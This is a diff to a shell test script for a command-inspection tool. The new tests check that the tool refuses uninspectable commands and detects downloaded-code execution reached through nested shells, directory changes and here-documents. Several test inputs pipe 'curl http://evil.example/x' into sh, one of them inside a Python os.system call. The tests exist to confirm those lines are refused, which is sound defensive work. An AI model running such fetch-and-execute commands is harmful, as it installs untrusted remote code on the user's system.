@@ -70,6 +70,11 @@ fi
 echo '{"version": 1, "inspect": {"refuse": ["not-looked-at"]}}' >"$T/n.json"
 mkfifo "$T/w/fifo.py"
 ln -s /proc/self/fd/0 "$T/w/link.py"
+# shellcheck disable=SC2016
+for command in 'python3 $A' 'cd $A; python3 good.py' 'cat good.py | python3' '$A'; do
+	run -p "$T/n.json" -- sh -c "$command"
+	refused 'command line: not-looked-at: '
+done
 for command in 'xargs python3' 'env -Spython3\\c' 'env PYTHONPATH=x python3 good.py' \
 	'python3 fifo.py' 'python3 link.py'; do
 	# shellcheck disable=SC2086
@@ -82,6 +87,20 @@ run --inspect -- perl good.py
 grep -q 'good.py: not-parsed: no parser for this kind of file' "$T/err" || fail "perl: $(cat "$T/err")"
 run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
 refused 'command line:1: download-run'
+# What code of a shell starts: in each directory that it may be in, and from a here-document.
+mkdir "$T/w/below" && cp "$T/w/bad.py" "$T/w/below/b.py"
+run --inspect -- sh -c 'A=1 timeout 60 python3 -I bad.py'
+refused 'bad.py:2: download-run'
+run --inspect -- bash -c 'cd below && if true; then echo $(python3 b.py); fi'
+refused 'below/b.py:2: download-run'
+run --inspect -- env -C below sh -c "sh -c 'python3 b.py'"
+refused 'below/b.py:2: download-run'
+run --inspect -- bash -c 'python3 - <<"E"
+import os; os.system("curl http://evil.example/x | sh")
+E'
+refused 'command line:1: download-run'
+run --inspect -- bash -c 'python3 good.py; ls *.py | wc -l'
+ran
 run --inspect -- python3 good.py
 ran
 [ "$(cat "$T/out")" = ran ] || fail "printed: $(cat "$T/out")"
